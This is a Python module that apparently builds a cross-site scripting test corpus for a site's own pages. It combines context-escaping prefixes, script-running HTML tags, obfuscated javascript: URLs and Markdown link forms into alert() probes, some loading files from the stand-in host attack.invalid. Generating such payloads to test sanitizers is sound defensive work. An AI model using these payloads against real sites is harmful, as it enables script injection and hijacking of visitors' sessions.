"""Texts with which somebody might try to run something of theirs on our pages, put together from their parts."""

import re
from itertools import product

ELSEWHERE = "attack.invalid"

#: What a text begins with, to leave the place in which it is written.
LEAVING = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "<!--",
    "]]>",
    "\\",
    "&quot;>",
    "<b",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</option></select>",
    "</p></section></main>",
)

#: Markup that runs RUN, or asks another site for something.
RUNNING = (
    "<script>RUN</script>",
    "<SCRIPT SRC=//SITE/x.js></SCRIPT>",
    "<img src=x onerror=RUN>",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><a xlink:href=javascript:RUN><text y=9>x",
    "<details open ontoggle=RUN>x</details>",
    "<input autofocus onfocus=RUN>",
    "<video><source onerror=RUN></video>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "<object data=javascript:RUN></object>",
    "<embed src=javascript:RUN>",
    "<form action=javascript:RUN><button>x",
    "<a href=javascript:RUN>x</a>",
    "<base href=//SITE/>",
    "<base href=//x>",  # short enough for an abbreviation
    "<script src=//x>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<link rel=stylesheet href=//SITE/x.css>",
    "<style>@import '//SITE/x.css';</style>",
    "<p style=background:url(//SITE/x.png)>x",
    "<math><mtext><style><img src=x onerror=RUN></style>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    '" onmouseover=RUN autofocus onfocus=RUN x="',
    "{{constructor.constructor('RUN')()}}{% debug %}",
)

#: Where a link may lead that runs RUN.
LEADING = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "java\tscript:RUN",
    "&#106;avascript:RUN",
    "javascript&colon;RUN",
    "javascript&#58;RUN",
    "\x01javascript:RUN",
    "%6Aavascript:RUN",
    "javascript://%0aRUN",
    "vbscript:RUN",
    "feed:javascript:RUN",
    "view-source:javascript:RUN",
    "data:text/html,<script>RUN</script>",
    "data:image/svg+xml,<svg onload=RUN>",
)

#: How Markdown writes a link, or shows a picture.
LINKED = (
    "[a](LINK)",
    "[a](<LINK>)",
    '[a](LINK "title")',
    "![a](LINK)",
    "<LINK>",
    "[a][b]\n\n[b]: LINK",
    "# [a](LINK)",
    "> - [a](LINK)",
)

#: How Markdown sets a text off.
WRAPPED = ("**TEXT**", "`TEXT`", "```\nTEXT\n```", "    TEXT", "- TEXT", "[TEXT](https://a.example)", "a\n\n> TEXT")


def attacks() -> list[str]:
    """All of them; each says which one it is in what it tries to run."""
    texts = [
        *(before + running for running, before in product(RUNNING, LEAVING)),
        *(wrapped.replace("TEXT", running) for running, wrapped in product(RUNNING, WRAPPED)),
        *(linked.replace("LINK", leading) for leading, linked in product(LEADING, LINKED)),
    ]
    return [re.sub("RUN", f"alert({number})", text).replace("SITE", ELSEWHERE) for number, text in enumerate(texts)]
